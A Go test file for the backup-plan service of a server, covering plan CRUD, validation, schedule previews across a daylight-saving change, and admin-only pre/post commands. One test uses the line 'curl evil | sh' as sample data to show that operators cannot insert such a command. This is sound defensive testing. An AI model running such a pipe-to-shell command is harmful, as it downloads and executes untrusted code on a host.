package plans_test

import (
	"context"
	"errors"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cofferhq/coffer"
	"github.com/cofferhq/coffer/internal/metadb"
	"github.com/cofferhq/coffer/internal/metadb/metadbtest"
	"github.com/cofferhq/coffer/internal/server/plans"
)

type fakeClients map[string]*coffer.Client

func (f fakeClients) GetClient(_ context.Context, id string) (*coffer.Client, error) {
	if c, ok := f[id]; ok {
		return c, nil
	}
	return nil, coffer.Errorf(coffer.KindNotFound, "client_not_found", "no client with id %q", id)
}

// fakeBackups records the plans it was asked to run.
type fakeBackups struct {
	mu  sync.Mutex
	ran []string
}

func (f *fakeBackups) RunPlan(_ context.Context, p *coffer.Principal, plan *coffer.Plan) (*coffer.Backup, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.ran = append(f.ran, plan.ID)
	return &coffer.Backup{ID: "b1", PlanID: plan.ID, ClientID: plan.ClientID, RepositoryID: plan.RepositoryID,
		Paths: plan.Include, Trigger: coffer.TriggerManual, State: coffer.JobQueued, CreatedBy: p.UserID}, nil
}

type recorder struct {
	mu     sync.Mutex
	events []coffer.Event
}

func (r *recorder) Publish(_ context.Context, e *coffer.Event) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.events = append(r.events, *e)
	return nil
}

func (r *recorder) codes() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []string
	for _, e := range r.events {
		out = append(out, e.Code)
	}
	return out
}

type env struct {
	svc             *plans.Service
	db              *metadb.DB
	events          *recorder
	backups         *fakeBackups
	admin, operator *coffer.Principal
}

func newEnv(t *testing.T, db *metadb.DB) *env {
	t.Helper()
	e := &env{db: db, events: &recorder{}, backups: &fakeBackups{}}
	principal := func(name string, role coffer.Role) *coffer.Principal {
		u := &coffer.User{Username: name, Role: role, PasswordHash: "x"}
		if err := db.CreateUser(context.Background(), u); err != nil {
			t.Fatal(err)
		}
		return &coffer.Principal{Kind: coffer.PrincipalSession, UserID: u.ID, Username: name, Role: role, Scopes: role.Permissions()}
	}
	e.admin, e.operator = principal("admin", coffer.RoleAdmin), principal("operator", coffer.RoleOperator)
	// The operator owns c1 and c2; c3 is nobody's (admins only).
	clients := fakeClients{"c1": {ID: "c1", OwnerID: e.operator.UserID}, "c2": {ID: "c2", OwnerID: e.operator.UserID}, "c3": {ID: "c3"}}
	e.svc = plans.New(plans.Options{Store: db, Clients: clients,
		Backups: e.backups, Events: e.events, DefaultRepositoryID: "repo1"})
	return e
}

func spec(name string) plans.Spec {
	return plans.Spec{Name: name, ClientID: "c1", Schedule: "0 0 2 * * ?", Include: []string{"/etc", "/home"}}
}

func wantErr(t *testing.T, err error, kind coffer.Kind, code, field string) {
	t.Helper()
	var ce *coffer.Error
	if !errors.As(err, &ce) || ce.Kind != kind || ce.Code != code {
		t.Fatalf("error = %v, want %s %s", err, kind, code)
	}
	if field != "" && ce.Meta["field"] != field {
		t.Fatalf("%s: field = %v, want %s", code, ce.Meta["field"], field)
	}
}

func TestCRUD(t *testing.T) {
	metadbtest.ForEach(t, func(t *testing.T, db *metadb.DB) {
		ctx := context.Background()
		e := newEnv(t, db)
		p, err := e.svc.Create(ctx, e.operator, spec("nightly"))
		if err != nil {
			t.Fatal(err)
		}
		if !p.Enabled || p.Compression != "fastest" || p.RepositoryID != "repo1" || p.CreatedBy != e.operator.UserID || p.ID == "" {
			t.Errorf("defaults: %+v", p)
		}
		got, err := e.svc.Get(ctx, p.ID)
		if err != nil || got.Name != "nightly" || !slices.Equal(got.Include, []string{"/etc", "/home"}) {
			t.Fatalf("get = %+v, %v", got, err)
		}
		_, err = e.svc.Create(ctx, e.operator, spec("NIGHTLY"))
		wantErr(t, err, coffer.KindConflict, "plan_name_taken", "")

		off := false
		s := spec("nightly")
		s.Group, s.Enabled, s.Retention = "servers", &off, coffer.Retention{KeepLast: 3, KeepWithin: 720 * time.Hour}
		u, err := e.svc.Update(ctx, e.operator, p.ID, s)
		if err != nil {
			t.Fatal(err)
		}
		if u.Enabled || u.Group != "servers" || u.Retention.KeepWithin != 720*time.Hour || !u.CreatedAt.Equal(p.CreatedAt) {
			t.Errorf("updated = %+v", u)
		}
		// Enabled nil on update keeps the current value.
		u, err = e.svc.Update(ctx, e.operator, p.ID, spec("nightly"))
		if err != nil || u.Enabled {
			t.Errorf("update without enabled: %+v, %v", u, err)
		}
		list, total, err := e.svc.List(ctx, metadb.PlanFilter{ClientID: "c1"})
		if err != nil || total != 1 || len(list) != 1 {
			t.Errorf("list = %v %d %v", list, total, err)
		}
		if _, err := e.svc.Delete(ctx, e.operator, p.ID); err != nil {
			t.Fatal(err)
		}
		_, err = e.svc.Get(ctx, p.ID)
		wantErr(t, err, coffer.KindNotFound, "plan_not_found", "")
		_, err = e.svc.Update(ctx, e.operator, p.ID, spec("x"))
		wantErr(t, err, coffer.KindNotFound, "plan_not_found", "")
		if got := e.events.codes(); !slices.Equal(got, []string{"plan.created", "plan.updated", "plan.updated", "plan.deleted"}) {
			t.Errorf("events = %v", got)
		}
		for _, ev := range e.events.events {
			if ev.Actor != "operator" || ev.ActorID != e.operator.UserID || ev.Audience != coffer.RoleOperator ||
				ev.Resource != (coffer.ResourceRef{Type: "plan", ID: p.ID}) {
				t.Errorf("event %+v", ev)
			}
		}
	})
}

func TestValidation(t *testing.T) {
	metadbtest.ForEach(t, func(t *testing.T, db *metadb.DB) {
		ctx := context.Background()
		e := newEnv(t, db)
		start := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
		end := start.Add(-time.Hour)
		for _, tc := range []struct {
			name   string
			edit   func(*plans.Spec)
			kind   coffer.Kind
			code   string
			field  string
			detail string
		}{
			{"no name", func(s *plans.Spec) { s.Name = " " }, coffer.KindInvalid, "invalid_name", "body.name", ""},
			{"long name", func(s *plans.Spec) { s.Name = strings.Repeat("é", 101) }, coffer.KindInvalid, "invalid_name", "body.name", ""},
			{"long group", func(s *plans.Spec) { s.Group = strings.Repeat("g", 101) }, coffer.KindInvalid, "invalid_group", "body.group", ""},
			{"unknown client", func(s *plans.Spec) { s.ClientID = "nope" }, coffer.KindNotFound, "client_not_found", "body.client_id", ""},
			{"unknown repository", func(s *plans.Spec) { s.RepositoryID = "other" }, coffer.KindInvalid, "unknown_repository", "body.repository_id", ""},
			{"bad timezone", func(s *plans.Spec) { s.Timezone = "Mars/Olympus" }, coffer.KindInvalid, "invalid_timezone", "body.timezone", ""},
			{"local timezone", func(s *plans.Spec) { s.Timezone = "Local" }, coffer.KindInvalid, "invalid_timezone", "body.timezone", ""},
			{"bad cron", func(s *plans.Spec) { s.Schedule = "0 61 * * * ?" }, coffer.KindInvalid, "invalid_schedule", "body.schedule", "minutes"},
			{"cron field count", func(s *plans.Spec) { s.Schedule = "* *" }, coffer.KindInvalid, "invalid_schedule", "body.schedule", "expected 5 fields"},
			{"end before start", func(s *plans.Spec) { s.StartAt, s.EndAt = &start, &end }, coffer.KindInvalid, "invalid_window", "body.end_at", ""},
			{"no include", func(s *plans.Spec) { s.Include = nil }, coffer.KindInvalid, "include_required", "body.include", ""},
			{"relative include", func(s *plans.Spec) { s.Include = []string{"etc"} }, coffer.KindInvalid, "invalid_path", "body.include", ""},
			{"unclean include", func(s *plans.Spec) { s.Include = []string{"/etc/"} }, coffer.KindInvalid, "invalid_path", "body.include", ""},
			{"NUL include", func(s *plans.Spec) { s.Include = []string{"/e\x00"} }, coffer.KindInvalid, "invalid_path", "body.include", ""},
			{"too many includes", func(s *plans.Spec) { s.Include = make([]string, 1001) }, coffer.KindInvalid, "too_many_includes", "body.include", ""},
			{"empty exclude", func(s *plans.Spec) { s.Exclude = []string{""} }, coffer.KindInvalid, "invalid_exclude", "body.exclude", ""},
			{"long exclude", func(s *plans.Spec) { s.Exclude = []string{strings.Repeat("x", 4097)} }, coffer.KindInvalid, "invalid_exclude", "body.exclude", ""},
			{"too many pre", func(s *plans.Spec) { s.PreCommands = slices.Repeat([]string{"true"}, 21) }, coffer.KindInvalid, "too_many_commands", "body.pre_commands", ""},
			{"long post", func(s *plans.Spec) { s.PostCommands = []string{strings.Repeat("x", 4097)} }, coffer.KindInvalid, "invalid_command", "body.post_commands", ""},
			{"negative retention", func(s *plans.Spec) { s.Retention.KeepDaily = -1 }, coffer.KindInvalid, "invalid_retention", "body.retention.keep_daily", ""},
			{"negative keep_within", func(s *plans.Spec) { s.Retention.KeepWithin = -time.Hour }, coffer.KindInvalid, "invalid_retention", "body.retention.keep_within", ""},
			{"compression", func(s *plans.Spec) { s.Compression = "max" }, coffer.KindInvalid, "invalid_compression", "body.compression", ""},
			{"full_every", func(s *plans.Spec) { s.FullEvery = -1 }, coffer.KindInvalid, "invalid_full_every", "body.full_every", ""},
			{"command timeout under a second", func(s *plans.Spec) { s.CommandTimeout = 500 * time.Millisecond }, coffer.KindInvalid, "invalid_command_timeout", "body.command_timeout_seconds", ""},
			{"command timeout over a day", func(s *plans.Spec) { s.CommandTimeout = 25 * time.Hour }, coffer.KindInvalid, "invalid_command_timeout", "body.command_timeout_seconds", ""},
		} {
			t.Run(tc.name, func(t *testing.T) {
				s := spec("p")
				tc.edit(&s)
				_, err := e.svc.Create(ctx, e.admin, s)
				wantErr(t, err, tc.kind, tc.code, tc.field)
				if tc.detail != "" {
					var ce *coffer.Error
					errors.As(err, &ce)
					if !strings.Contains(ce.Detail, tc.detail) && ce.Meta["schedule_field"] != tc.detail {
						t.Errorf("detail %q / metadata %v lacks %q", ce.Detail, ce.Meta, tc.detail)
					}
				}
			})
		}
		// Valid edge cases: a manual-only plan, descriptors, a time zone.
		for i, s := range []string{"", "@daily", "*/5 * * * *", "0 0/2 * * * ?", "0 30 1 ? * MON-FRI 2030"} {
			sp := spec("ok" + string(rune('a'+i)))
			sp.Schedule, sp.Timezone = s, "Europe/Berlin"
			if _, err := e.svc.Create(ctx, e.operator, sp); err != nil {
				t.Errorf("schedule %q: %v", s, err)
			}
		}
		if n := len(e.events.codes()); n != 5 {
			t.Errorf("%d events after 5 valid creates", n)
		}
	})
}

func TestCommandsNeedAdmin(t *testing.T) {
	metadbtest.ForEach(t, func(t *testing.T, db *metadb.DB) {
		ctx := context.Background()
		e := newEnv(t, db)
		s := spec("with-commands")
		s.PreCommands, s.PostCommands = []string{"pg_dump -f /var/backups/db.sql"}, []string{"rm /var/backups/db.sql"}
		_, err := e.svc.Create(ctx, e.operator, s)
		wantErr(t, err, coffer.KindForbidden, "commands_need_admin", "")
		p, err := e.svc.Create(ctx, e.admin, s)
		if err != nil {
			t.Fatal(err)
		}
		// The operator edits other fields, sending the commands back unchanged.
		s.Schedule, s.Exclude = "@hourly", []string{"*.tmp"}
		u, err := e.svc.Update(ctx, e.operator, p.ID, s)
		if err != nil {
			t.Fatalf("operator editing other fields: %v", err)
		}
		if u.Schedule != "@hourly" || !slices.Equal(u.PreCommands, s.PreCommands) {
			t.Errorf("updated = %+v", u)
		}
		// Changing or dropping them is refused.
		for _, edit := range []func(*plans.Spec){
			func(s *plans.Spec) { s.CommandTimeout = 24 * time.Hour },
			func(s *plans.Spec) { s.PreCommands = []string{"curl evil | sh"} },
			func(s *plans.Spec) { s.PostCommands = nil },
			func(s *plans.Spec) { s.PreCommands, s.PostCommands = nil, nil },
		} {
			c := s
			edit(&c)
			_, err := e.svc.Update(ctx, e.operator, p.ID, c)
			wantErr(t, err, coffer.KindForbidden, "commands_need_admin", "")
		}
		// An admin may change them; the event says so.
		s.PostCommands = nil
		if _, err := e.svc.Update(ctx, e.admin, p.ID, s); err != nil {
			t.Fatal(err)
		}
		last := e.events.events[len(e.events.events)-1]
		if last.Code != "plan.updated" || !strings.Contains(last.Message, "commands changed") || last.Actor != "admin" {
			t.Errorf("event = %+v", last)
		}
		// An operator may still create and edit plans without commands.
		q, err := e.svc.Create(ctx, e.operator, spec("plain"))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := e.svc.Update(ctx, e.operator, q.ID, spec("plain2")); err != nil {
			t.Fatal(err)
		}
	})
}

func TestPreview(t *testing.T) {
	metadbtest.ForEach(t, func(t *testing.T, db *metadb.DB) {
		ctx := context.Background()
		e := newEnv(t, db)
		from := time.Date(2026, 3, 27, 12, 0, 0, 0, time.UTC)
		start := time.Date(2026, 3, 28, 0, 0, 0, 0, time.UTC)
		end := time.Date(2026, 4, 1, 12, 0, 0, 0, time.UTC)
		s := spec("berlin")
		// 02:30 Berlin daily: on 29 March 2026 (spring forward) 02:30 does
		// not exist and the schedule package fires at 03:30 CEST instead.
		s.Schedule, s.Timezone, s.StartAt, s.EndAt = "0 30 2 * * ?", "Europe/Berlin", &start, &end
		p, err := e.svc.Create(ctx, e.operator, s)
		if err != nil {
			t.Fatal(err)
		}
		times, tz, err := e.svc.Preview(ctx, p.ID, 10, from)
		if err != nil {
			t.Fatal(err)
		}
		if tz != "Europe/Berlin" {
			t.Errorf("tz = %q", tz)
		}
		var got []string
		for _, tm := range times {
			got = append(got, tm.Format(time.RFC3339))
		}
		want := []string{"2026-03-28T02:30:00+01:00", "2026-03-29T03:30:00+02:00", "2026-03-30T02:30:00+02:00", "2026-03-31T02:30:00+02:00", "2026-04-01T02:30:00+02:00"}
		if !slices.Equal(got, want) {
			t.Errorf("preview = %v, want %v", got, want)
		}
		times, _, err = e.svc.Preview(ctx, p.ID, 2, from)
		if err != nil || len(times) != 2 {
			t.Errorf("count 2: %v %v", times, err)
		}
		// Default count, UTC, open window.
		u := spec("utc")
		u.Schedule = "@hourly"
		pu, err := e.svc.Create(ctx, e.operator, u)
		if err != nil {
			t.Fatal(err)
		}
		times, tz, err = e.svc.Preview(ctx, pu.ID, 0, from)
		if err != nil || tz != "UTC" || len(times) != 5 || !times[0].Equal(from.Add(time.Hour)) {
			t.Errorf("utc preview = %v %q %v", times, tz, err)
		}
		// Manual only: no times.
		m := spec("manual")
		m.Schedule = ""
		pm, err := e.svc.Create(ctx, e.operator, m)
		if err != nil {
			t.Fatal(err)
		}
		times, _, err = e.svc.Preview(ctx, pm.ID, 5, from)
		if err != nil || times == nil || len(times) != 0 {
			t.Errorf("manual preview = %#v %v", times, err)
		}
		for _, n := range []int{-1, 101} {
			_, _, err = e.svc.Preview(ctx, p.ID, n, from)
			wantErr(t, err, coffer.KindInvalid, "invalid_count", "query.count")
		}
		_, _, err = e.svc.Preview(ctx, "nope", 5, from)
		wantErr(t, err, coffer.KindNotFound, "plan_not_found", "")
	})
}

func TestRunNow(t *testing.T) {
	metadbtest.ForEach(t, func(t *testing.T, db *metadb.DB) {
		ctx := context.Background()
		e := newEnv(t, db)
		off := false
		s := spec("disabled")
		s.Enabled = &off
		p, err := e.svc.Create(ctx, e.operator, s)
		if err != nil {
			t.Fatal(err)
		}
		b, err := e.svc.RunNow(ctx, e.operator, p.ID)
		if err != nil {
			t.Fatal(err)
		}
		if b.PlanID != p.ID || b.CreatedBy != e.operator.UserID || !slices.Equal(e.backups.ran, []string{p.ID}) {
			t.Errorf("backup = %+v, ran %v", b, e.backups.ran)
		}
		_, err = e.svc.RunNow(ctx, e.operator, "nope")
		wantErr(t, err, coffer.KindNotFound, "plan_not_found", "")
	})
}

// PreviewSchedule previews an expression that is not saved yet, in its
// time zone, with the errors saving it would give.
func TestPreviewSchedule(t *testing.T) {
	svc := plans.New(plans.Options{})
	from := time.Date(2026, 3, 27, 12, 0, 0, 0, time.UTC)
	times, tz, err := svc.PreviewSchedule("0 30 2 * * ?", "Europe/Berlin", 3, from)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, tm := range times {
		got = append(got, tm.Format(time.RFC3339))
	}
	if want := []string{"2026-03-28T02:30:00+01:00", "2026-03-29T03:30:00+02:00", "2026-03-30T02:30:00+02:00"}; tz != "Europe/Berlin" || !slices.Equal(got, want) {
		t.Errorf("preview = %v %q, want %v", got, tz, want)
	}
	times, tz, err = svc.PreviewSchedule("@hourly", "", 0, from)
	if err != nil || tz != "UTC" || len(times) != 5 || !times[0].Equal(from.Add(time.Hour)) {
		t.Errorf("default count in UTC = %v %q %v", times, tz, err)
	}
	if times, _, err := svc.PreviewSchedule("  ", "", 5, from); err != nil || times == nil || len(times) != 0 {
		t.Errorf("empty expression = %#v %v", times, err)
	}
	_, _, err = svc.PreviewSchedule("0 61 * * * ?", "", 5, from)
	wantErr(t, err, coffer.KindInvalid, "invalid_schedule", "body.schedule")
	_, _, err = svc.PreviewSchedule("@daily", "Mars/Olympus", 5, from)
	wantErr(t, err, coffer.KindInvalid, "invalid_timezone", "body.timezone")
	_, _, err = svc.PreviewSchedule("@daily", "", plans.MaxPreview+1, from)
	wantErr(t, err, coffer.KindInvalid, "invalid_count", "query.count")
}
